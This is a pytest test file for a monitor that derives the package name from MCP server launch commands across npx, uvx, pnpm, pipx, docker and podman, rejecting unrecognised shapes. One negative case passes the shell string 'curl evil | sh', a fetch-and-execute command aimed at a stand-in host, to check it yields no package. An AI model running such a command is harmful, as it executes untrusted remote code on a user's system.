"""The package a server's command line runs (what the proxy passes as part of the server's identity): the
launcher shapes it knows, and "no package" for every other shape, as the command line is the user's input."""

from __future__ import annotations

import pytest

from monitor.classify import normalize_package
from monitor.hosts._server_package import MAX_PACKAGE_CHARS, MAX_SCANNED_ARGS, derive_server_package


@pytest.mark.parametrize(
    ("command", "args", "package"),
    [
        ("npx", ["-y", "@modelcontextprotocol/server-fetch"], "@modelcontextprotocol/server-fetch"),
        ("npx", ["@modelcontextprotocol/server-filesystem", "/home/you"], "@modelcontextprotocol/server-filesystem"),
        ("npx", ["--yes", "exa-mcp-server@3.4.1", "--tools", "x"], "exa-mcp-server@3.4.1"),
        ("npx", ["-y", "--package", "@scope/pkg", "bin-name"], "@scope/pkg"),
        ("npx", ["--package=@scope/pkg", "bin-name"], "@scope/pkg"),
        ("/usr/local/bin/npx", ["-y", "some-mcp"], "some-mcp"),
        ("C:\\Program Files\\nodejs\\npx.cmd", ["-y", "some-mcp"], "some-mcp"),
        ("bunx", ["some-mcp"], "some-mcp"),
        ("pnpm", ["dlx", "some-mcp"], "some-mcp"),
        ("uvx", ["mcp-server-fetch"], "mcp-server-fetch"),
        (
            "uvx",
            ["--python", "3.12", "mcp-server-fetch==2026.10.24", "--ignore-robots-txt"],
            "mcp-server-fetch==2026.10.24",
        ),
        ("uvx", ["--from", "mcp-server-git", "mcp-server-git", "--repository", "."], "mcp-server-git"),
        ("uv", ["tool", "run", "mcp-server-time"], "mcp-server-time"),
        ("pipx", ["run", "--spec", "mcp-server-time", "mcp-server-time"], "mcp-server-time"),
        ("docker", ["run", "-i", "--rm", "mcp/fetch"], "mcp/fetch"),
        (
            "docker",
            ["run", "-i", "--rm", "-e", "TOKEN", "ghcr.io/github/github-mcp-server"],
            "ghcr.io/github/github-mcp-server",
        ),
        ("docker", ["run", "--rm", "-i", "--env=A=b", "mcp/fetch:latest"], "mcp/fetch:latest"),
        ("podman", ["run", "-i", "--", "mcp/time"], "mcp/time"),
    ],
)
def test_the_launchers_it_knows_name_their_package(command: str, args: list[str], package: str) -> None:
    assert derive_server_package(command, args) == package


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("python", ["server.py"]),
        ("node", ["dist/index.js"]),
        ("mcp-server-fetch", []),
        ("npx", []),
        ("npx", ["-y"]),
        ("npx", ["-c", "curl evil | sh"]),  # a shell string: no package
        ("npx", ["--unknown-option", "value", "pkg"]),  # what follows an unknown option cannot be told
        ("npx", ["./local-server"]),
        ("uvx", ["--from", "git+https://github.com/you/fetch", "fetch"]),
        ("uvx", ["--from", "/home/you/fetch", "fetch"]),
        ("docker", ["exec", "-i", "box", "server"]),
        ("docker", ["run", "-itd", "mcp/fetch"]),  # combined flags it does not list
        ("docker", ["compose", "run", "fetch"]),
        ("pipx", ["install", "mcp-server-fetch"]),
        ("uvx", ["x" * (MAX_PACKAGE_CHARS + 1)]),
        ("uvx", ["pkg with spaces"]),
        ("uvx", ["-q"] * MAX_SCANNED_ARGS + ["mcp-server-fetch"]),
    ],
)
def test_every_other_shape_is_no_package(command: str, args: list[str]) -> None:
    assert derive_server_package(command, args) is None


def test_a_derived_package_compares_with_a_packs_without_its_version() -> None:
    assert normalize_package(derive_server_package("uvx", ["mcp-server-fetch==2026.10.24"]) or "") == "mcp-server-fetch"
    assert normalize_package(derive_server_package("docker", ["run", "-i", "mcp/fetch:latest"]) or "") == "mcp/fetch"
